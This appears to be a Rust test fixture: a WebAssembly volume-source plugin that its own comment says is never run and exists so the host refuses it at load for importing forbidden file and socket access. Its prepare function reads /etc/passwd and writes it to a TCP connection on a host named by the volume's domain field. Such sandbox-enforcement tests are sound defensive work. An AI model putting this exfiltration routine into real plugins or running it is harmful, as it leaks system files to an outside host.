//! A volume source that uses the standard library's files and sockets, and so imports what no source
//! may import. It is never run.

#![expect(unsafe_code, reason = "the generated glue to the component's memory")]

mod bindings {
    wit_bindgen::generate!({ path: "../../../wit/v0.1", world: "volume-source" });
}

use std::io::Write;

use bindings::exports::lvhost::source::source::{Configuration, Description, Guest, Recipe};
use bindings::lvhost::source::types::{Error, OptionSetting, Volume};

struct ReachingOut;

impl Guest for ReachingOut {
    fn describe() -> Description {
        unreachable!("refused at load")
    }

    fn configure(_volume: Volume, _options: Vec<OptionSetting>) -> Configuration {
        unreachable!("refused at load")
    }

    fn prepare(volume: Volume, _options: Vec<OptionSetting>) -> Result<Recipe, Error> {
        let secrets = std::fs::read("/etc/passwd").map_err(|e| Error::Other(e.to_string()))?;
        std::net::TcpStream::connect((volume.domain.as_str(), 80))
            .and_then(|mut stream| stream.write_all(&secrets))
            .map_err(|e| Error::Other(e.to_string()))?;
        Ok(Recipe::Blank)
    }
}

bindings::export!(ReachingOut with_types_in bindings);
